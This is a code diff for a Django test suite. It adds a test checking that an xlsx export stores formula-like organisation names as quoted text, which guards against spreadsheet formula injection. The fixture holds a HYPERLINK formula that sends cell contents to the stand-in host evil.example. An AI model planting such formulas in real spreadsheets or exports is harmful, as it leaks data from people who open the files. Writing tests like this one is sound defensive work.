@@ -4,7 +4,7 @@ import pytest
 from django.urls import reverse
 from pytest_django.asserts import assertContains, assertNotContains
 
-from core.tests.utils import sheet_title, xlsx_rows
+from core.tests.utils import sheet_title, xlsx_rows, xlsx_text_cells
 from organizations.models import Organization
 from organizations.tests.factories import OrganizationFactory
 from people.tests.factories import PersonFactory
@@ -311,3 +311,17 @@ def test_export_query_count_does_not_grow_with_rows(
         response = client.get(EXPORT)
 
     assert len(xlsx_rows(response)) == n + 1
+
+
+def test_export_writes_a_formula_like_name_as_text(client, coordinator, municipality):
+    formula = '=HYPERLINK("http://evil.example/?d="&B2,"ok")'
+    OrganizationFactory(
+        municipality=municipality, short_name=formula, full_name="\x07@x"
+    )
+    client.force_login(coordinator)
+
+    response = client.get(EXPORT)
+
+    for text in (formula, "@x"):
+        (cell,) = xlsx_text_cells(response, text)
+        assert (cell.data_type, cell.quotePrefix) == ("s", True)
